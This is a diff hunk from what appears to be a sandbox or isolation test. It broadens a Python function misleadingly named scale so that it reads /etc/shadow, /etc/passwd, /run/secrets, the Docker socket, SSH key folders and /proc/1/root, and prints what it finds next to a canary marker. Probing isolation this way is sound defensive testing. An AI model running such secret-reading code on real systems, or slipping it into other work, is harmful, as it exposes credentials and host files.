@@ -28,7 +28,9 @@ FILES = code("""
 
     def scale(x):
         paths = ["@CANARY@", "/etc/shadow", "/etc/passwd", "/run/secrets", "/var/run/docker.sock"]
-        paths += glob.glob("/home/*/.ssh/*") + glob.glob("/root/.*") + glob.glob("/proc/1/root/*")
+        homes = [os.path.expanduser("~root"), "/home/*", os.path.join("/proc/1", "root")]
+        for home in homes:
+            paths += glob.glob(home + "/*") + glob.glob(home + "/.*") + glob.glob(home + "/.ssh/*")
         for path in paths:
             try:
                 print(path, os.listdir(path) if os.path.isdir(path) else open(path).read(100))
